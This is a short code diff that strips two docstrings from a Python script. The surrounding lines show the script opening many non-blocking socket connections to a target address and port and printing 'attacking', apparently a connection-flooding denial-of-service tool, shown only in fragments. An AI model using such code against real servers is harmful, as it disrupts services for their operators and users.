@@ -16,7 +16,6 @@ PATIENCE_S = 0.3
 
 
 def connection(address: str, port: int) -> socket.socket:
-    """A new one, on its way."""
     made = socket.socket()
     made.setblocking(False)
     made.connect_ex((address, port))
@@ -37,7 +36,6 @@ def over(made: socket.socket) -> bool:
 
 
 def main(address: str, port: int, count: int) -> None:
-    """Attack."""
     made = [connection(address, port) for _ in range(count)]
     sys.stdout.write("attacking\n")
     sys.stdout.flush()
